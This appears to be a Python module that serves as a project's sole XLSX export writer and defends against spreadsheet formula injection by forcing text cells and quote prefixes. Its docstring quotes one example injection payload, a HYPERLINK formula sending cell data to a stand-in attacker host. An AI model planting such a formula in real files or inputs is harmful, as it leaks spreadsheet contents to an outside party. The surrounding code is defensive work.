"""The one XLSX writer. Every export the project makes goes through it.

Spreadsheet programs run a cell as a formula when its text starts with `=` (and, on typing
or re-import as CSV, with `+`, `-` or `@`; a leading tab or carriage return hides the
trigger from a reviewer). A station named `=HYPERLINK("http://evil.example/?x="&A1,"点我")`
written with openpyxl's plain `append` becomes a live formula in the stations export. Here:

- every `str` is written as a string cell (never `f`ormula, never `e`rror type);
- a string that starts with a trigger character also carries Excel's *quote prefix*
  style, so editing the cell or saving the sheet as CSV keeps it text; its value is not
  changed, so a re-import reads exactly what was exported;
- numbers, dates and booleans stay typed values (they are ours, not user text).

Usage::

    writer = XlsxWriter()
    sheet = writer.sheet("服务站点", widths=[12, 30], text_columns="BC")
    sheet.header(["编码", "名称"])
    sheet.append([station.code, station.name])
    content = writer.to_bytes()          # or writer.save(open_file)

Later modules must not import openpyxl's `Workbook` themselves (a test enforces it:
`tests/security/test_xlsx_exports.py`).
"""

from __future__ import annotations

import datetime as dt
import decimal
import io
from collections.abc import Iterable, Sequence
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation

# First characters that make a spreadsheet program treat text as a formula or hide it.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_TYPED = (int, float, decimal.Decimal, dt.date, dt.datetime, dt.time, bool)
_BOLD = Font(bold=True)


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


class XlsxSheet:
    """One sheet of an `XlsxWriter`; rows are streamed (write-only), so exports of any size
    stay in constant memory."""

    def __init__(self, workbook: Workbook, title: str, *, widths: Sequence[float] = (),
                 text_columns: Iterable[str] = ()) -> None:
        self._sheet = workbook.create_sheet(title[:31])
        for index, width in enumerate(widths, start=1):
            self._sheet.column_dimensions[get_column_letter(index)].width = width
        for letter in text_columns:
            # Long numbers (ID, phone, credit code) typed into the column stay text in Excel.
            self._sheet.column_dimensions[letter].number_format = "@"

    def _cell(self, value: Any, *, bold: bool = False) -> Any:
        if value is None:
            return None
        cell = WriteOnlyCell(self._sheet)
        if isinstance(value, _TYPED):
            cell.value = value
        else:
            text = str(value)
            cell.value = text
            cell.data_type = "s"  # never a formula, never an error code
            if is_formula_like(text):
                cell.quotePrefix = True
        if bold:
            cell.font = _BOLD
        return cell

    def header(self, values: Iterable[Any]) -> None:
        self._sheet.append([self._cell(v, bold=True) for v in values])

    def append(self, values: Iterable[Any]) -> None:
        self._sheet.append([self._cell(v) for v in values])

    def list_validation(self, cell_range: str, options: Sequence[str]) -> None:
        """A drop-down of fixed choices (our labels, never user text)."""
        validation = DataValidation(type="list", formula1='"' + ",".join(options) + '"', allow_blank=True)
        validation.add(cell_range)
        self._sheet.data_validations.append(validation)


class XlsxWriter:
    def __init__(self) -> None:
        self._workbook = Workbook(write_only=True)

    def sheet(self, title: str, *, widths: Sequence[float] = (), text_columns: Iterable[str] = ()) -> XlsxSheet:
        return XlsxSheet(self._workbook, title, widths=widths, text_columns=text_columns)

    def save(self, target: IO[bytes]) -> None:
        self._workbook.save(target)

    def to_bytes(self) -> bytes:
        out = io.BytesIO()
        self.save(out)
        return out.getvalue()
